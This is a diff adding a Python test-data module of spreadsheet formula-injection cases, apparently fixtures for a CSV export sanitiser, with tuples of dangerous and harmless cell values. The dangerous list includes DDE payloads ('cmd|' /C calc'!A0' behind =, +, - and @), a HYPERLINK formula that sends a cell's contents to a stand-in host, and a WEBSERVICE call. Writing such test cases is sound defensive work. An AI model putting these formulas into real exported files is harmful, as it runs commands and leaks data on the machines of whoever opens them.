@@ -1,0 +1,52 @@
+"""Texts that spreadsheets work out, or come near to it."""
+
+from __future__ import annotations
+
+FORMULAS = (
+    "=1+1",
+    '=HYPERLINK("http://x.org?x="&A1,"click")',
+    "=cmd|' /C calc'!A0",
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    '=WEBSERVICE("http://x.org")',
+    "  =1+1",
+    "\u00a0=1+1",
+    "\u3000＝1+1",
+    "＝1+1",
+    "＋1",
+    "－1+1",
+    "＠SUM(1)",
+    "\n=1+1",
+    "+34 600 123 456",
+    "+34600123456",
+    "-",
+    "- first point",
+    "−5 degrees",
+    "@handle",
+    "=",
+    "-1-1",
+    "--1",
+)
+HARMLESS = (
+    "",
+    "-5",
+    "-1.5",
+    "-1,25",
+    "42",
+    "0034 600",
+    "a=b",
+    "3 - 4",
+    "'Ndrangheta",
+    "''",
+    "'quoted'",
+    "'-5",
+    "…",
+    "a;b,c\td|e",
+    'say "yes"',
+    "two\nlines",
+    "عمّان = 3",
+    "mail@x.org",
+    "1;-5;3",
+)
+BEHIND_APOSTROPHES = tuple(f"{marks}{text}" for text in FORMULAS for marks in ("'", "''"))
